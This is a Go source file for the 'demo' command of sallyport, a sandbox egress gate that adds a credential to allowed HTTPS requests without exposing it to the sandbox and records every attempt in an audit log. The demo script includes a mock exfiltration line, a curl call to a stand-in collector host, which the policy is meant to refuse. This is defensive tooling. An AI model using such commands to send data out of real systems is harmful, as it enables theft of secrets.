package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/x509"
	"embed"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"net/netip"
	"os"
	"os/exec"
	"strings"
	"sync"
	"time"

	"github.com/spf13/cobra"

	"sallyport/audit"
	"sallyport/cmd/terms"
	"sallyport/dest"
	"sallyport/origin"
	"sallyport/sandbox"
)

//go:embed tour/policy.rego
var tourFS embed.FS

func demoCommand() *cobra.Command {
	return &cobra.Command{
		Use:   "demo",
		Short: "A tour in a few seconds, without a network",
		Long: `demo starts an HTTPS server on this machine, runs a shell in a sandbox whose
only way out is sallyport, and shows what is refused, what goes through with a
credential that the sandbox never sees, and the records that prove both.`,
		Example: "  sallyport demo",
		Args:    cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			return (&demo{out: cmd.OutOrStdout()}).run(cmd.Context())
		},
	}
}

// demoVariable is where the tour's credential is read from; the sandbox does
// not get it.
const demoVariable = "SALLYPORT_DEMO_TOKEN"

// A demo is one tour.
type demo struct {
	out    io.Writer
	origin *origin.Origin
	token  string
	api    string // authority of the server, as the sandbox knows it
	evil   string
}

func (d *demo) run(ctx context.Context) error {
	var err error
	if d.origin, err = origin.Start(origin.Options{}); err != nil {
		return err
	}
	defer d.origin.Close()
	d.token = "demo-" + rand.Text()
	if err := os.Setenv(demoVariable, d.token); err != nil {
		return err
	}
	d.api = fmt.Sprintf("api.example.com:%d", d.origin.TLSPort)
	d.evil = fmt.Sprintf("collector.example.net:%d", d.origin.TLSPort)
	o, err := d.options()
	if err != nil {
		return err
	}
	d.say("An HTTPS server runs on this machine as https://%s. This is the whole policy:", d.api)
	text, err := fs.ReadFile(tourFS, "tour/policy.rego")
	if err != nil {
		return err
	}
	d.quote(string(text))
	d.say("The credential %q is in a variable of this process. A shell runs in a sandbox that has no network but the gate:", "demo")
	inside, err := d.sandboxed(ctx, o)
	if err != nil {
		return err
	}
	if err := d.seen(inside); err != nil {
		return err
	}
	d.say("Every attempt is on record, before it had an effect (sallyport audit tail):")
	if err := audit.Tail(ctx, o.auditDir, audit.TailOptions{}, func(e audit.Entry) error { return audit.FormatEntry(d.out, e, false) }); err != nil {
		return err
	}
	d.say("And the log holds (sallyport audit verify):")
	rep, err := audit.Verify(o.auditDir, audit.Expect{})
	if err != nil {
		return err
	}
	fmt.Fprintln(d.out, rep)
	if !rep.OK() {
		return errors.New("the log of the tour does not hold")
	}
	d.say("Now your own command:")
	fmt.Fprintln(d.out, "  sallyport run --allow example.com -- curl -sS https://example.com/\n  sallyport run --help")
	return nil
}

// options are those of a run.
func (d *demo) options() (*runOptions, error) {
	exe, err := os.Executable()
	if err != nil {
		return nil, err
	}
	script := d.script()
	o := &runOptions{name: "demo", mode: sandbox.Enforce, policyFS: tourFS, roots: x509.NewCertPool(), mounts: []string{exe + ":" + demoClient}, argv: []string{"/bin/sh", "-c", script}, resolve: map[dest.Host]netip.Addr{}}
	o.roots.AppendCertsFromPEM(d.origin.CAPEM())
	o.allowPrivate = []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}
	for _, h := range []string{d.api, d.evil} {
		a, err := dest.ParseAddr(h)
		if err != nil {
			return nil, err
		}
		o.resolve[a.Host()] = netip.MustParseAddr("127.0.0.1")
	}
	c, err := terms.ParseCredential("demo=env:" + demoVariable + "@https://" + d.api)
	if err != nil {
		return nil, err
	}
	o.credentials, o.secretVars = append(o.credentials, c.Binding), append(o.secretVars, c.Variable)
	return o, nil
}

// demoClient is where this program is found inside, for machines without curl.
const demoClient = "/run/sallyport-demo"

// script is what the shell inside does.
func (d *demo) script() string {
	client := "curl -sS"
	if _, err := exec.LookPath("curl"); err != nil {
		client = demoClient + " demo-client"
	}
	var b strings.Builder
	for _, l := range []string{
		"echo ${" + demoVariable + "-there is no token here}",
		"curl https://" + d.evil + "/?found=something",
		"curl https://" + d.api + "/ -d x=1",
		"curl https://" + d.api + "/user",
	} {
		fmt.Fprintf(&b, "echo '$ %s'; %s\n", l, strings.Replace(l, "curl", client, 1))
	}
	b.WriteString("exit 0\n")
	return b.String()
}

// sandboxed runs the shell and returns all that it wrote.
func (d *demo) sandboxed(ctx context.Context, o *runOptions) ([]byte, error) {
	r, w, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	null, err := os.Open(os.DevNull)
	if err != nil {
		return nil, err
	}
	defer null.Close()
	o.stdin, o.stdout, o.stderr = null, w, w
	var all bytes.Buffer
	var copying sync.WaitGroup
	copying.Go(func() {
		_, _ = io.Copy(io.MultiWriter(&all, &indent{w: d.out, start: true}), r)
		_ = r.Close()
	})
	err = runSandbox(ctx, o)
	_ = w.Close()
	copying.Wait()
	return all.Bytes(), err
}

// seen compares what the server was sent with what the sandbox saw of it.
func (d *demo) seen(inside []byte) error {
	n, with := 0, 0
	for _, r := range d.origin.Seen() {
		n++
		if r.Header.Get("Authorization") == "Bearer "+d.token {
			with++
		}
	}
	if n != 1 || with != 1 || bytes.Contains(inside, []byte(d.token)) {
		return fmt.Errorf("the tour went wrong: the server saw %d requests, %d with the credential", n, with)
	}
	d.say("The server was sent one request, with the credential, and echoed it. Of the %d bytes that the sandbox read, none are the credential's: [REDACTED:demo] stands in its place.", len(inside))
	return nil
}

func (d *demo) say(format string, a ...any) { fmt.Fprintf(d.out, "\n▸ "+format+"\n", a...) }

func (d *demo) quote(s string) { _, _ = io.WriteString(&indent{w: d.out, start: true}, s) }

// An indent sets what is written off from what the tour says.
type indent struct {
	w     io.Writer
	start bool
}

// Write writes p, each line two columns to the right.
func (i *indent) Write(p []byte) (int, error) {
	for line := range bytes.Lines(p) {
		if i.start {
			line = append([]byte("  "), line...)
		}
		if _, err := i.w.Write(line); err != nil {
			return 0, err
		}
		i.start = bytes.HasSuffix(line, []byte("\n"))
	}
	return len(p), nil
}

// demoClientCommand is a client for machines that have none.
func demoClientCommand() *cobra.Command {
	var data string
	cmd := &cobra.Command{Use: "demo-client URL", Hidden: true, Args: cobra.ExactArgs(1), RunE: func(cmd *cobra.Command, args []string) error {
		method := http.MethodGet
		if data != "" {
			method = http.MethodPost
		}
		ctx, cancel := context.WithTimeout(cmd.Context(), 10*time.Second)
		defer cancel()
		req, err := http.NewRequestWithContext(ctx, method, args[0], strings.NewReader(data))
		if err != nil {
			return err
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return err
		}
		defer resp.Body.Close()
		_, err = io.Copy(cmd.OutOrStdout(), resp.Body)
		return err
	}}
	cmd.Flags().StringVarP(&data, "data", "d", "", "the body of a POST request")
	return cmd
}
